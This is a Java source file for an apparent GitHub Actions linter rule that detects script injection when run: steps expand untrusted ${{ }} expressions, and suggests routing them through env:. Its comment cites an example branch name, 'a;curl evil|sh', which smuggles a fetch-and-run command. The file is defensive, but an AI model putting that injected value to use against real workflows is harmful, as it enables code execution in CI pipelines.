package io.github.ghcrtools.workflows;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * No script injection: a {@code run:} script does not expand {@code ${{ }}} expressions of values
 * someone else chose: step outputs ({@code steps.*.outputs}), job outputs ({@code
 * needs.*.outputs}), the event payload ({@code github.event.*}), a manual run's inputs ({@code
 * inputs.*}) or the pull request's branch ({@code github.head_ref}). GitHub pastes an expression
 * into the script before the shell parses it, so a branch named {@code a;curl evil|sh} becomes a
 * command. Passed through {@code env:} the value stays data.
 */
final class ExpressionInjectionRule implements WorkflowRule {

  private static final Pattern EXPRESSION = Pattern.compile("\\$\\{\\{(.*?)}}", Pattern.DOTALL);
  private static final String SEGMENT = "(?:\\.[A-Za-z_][\\w-]*|\\[[^\\]]*])";
  private static final Pattern UNTRUSTED =
      Pattern.compile(
          "(?<![\\w.-])(?:(?:steps|needs)"
              + SEGMENT
              + "\\.outputs"
              + SEGMENT
              + "?|inputs"
              + SEGMENT
              + "|github\\.event(?![\\w-])"
              + SEGMENT
              + "*|github\\.head_ref(?![\\w-]))",
          Pattern.CASE_INSENSITIVE);
  private static final Pattern NAME = Pattern.compile("[A-Za-z_][\\w-]*");

  @Override
  public List<Finding> check(Workflow workflow, Job job) {
    List<Finding> findings = new ArrayList<>();
    for (Step step : job.steps()) {
      if (step.run() == null) {
        continue;
      }
      int searchFrom = step.runLine();
      Matcher expression = EXPRESSION.matcher(step.run());
      while (expression.find()) {
        Matcher untrusted = UNTRUSTED.matcher(expression.group(1));
        if (!untrusted.find()) {
          continue;
        }
        String shown = "${{ " + expression.group(1).strip().replaceAll("\\s+", " ") + " }}";
        String where = "";
        if (step.runLine() > 0) {
          searchFrom = workflow.lineOf(expression.group(), searchFrom);
          where = " (line " + searchFrom + ")";
        }
        String variable = variable(untrusted.group());
        findings.add(
            new Finding(
                step,
                "expands " + shown + " in its run: script" + where,
                "pass it through env: (\"env: { "
                    + variable
                    + ": "
                    + shown
                    + " }\") and write \"$"
                    + variable
                    + "\" in the script"));
      }
    }
    return findings;
  }

  /** An environment variable named after the context path's last name, e.g. DEPLOY_IMAGES. */
  private static String variable(String path) {
    Matcher names = NAME.matcher(path);
    String last = "VALUE";
    while (names.find()) {
      last = names.group();
    }
    return last.toUpperCase(Locale.ROOT).replace('-', '_');
  }
}
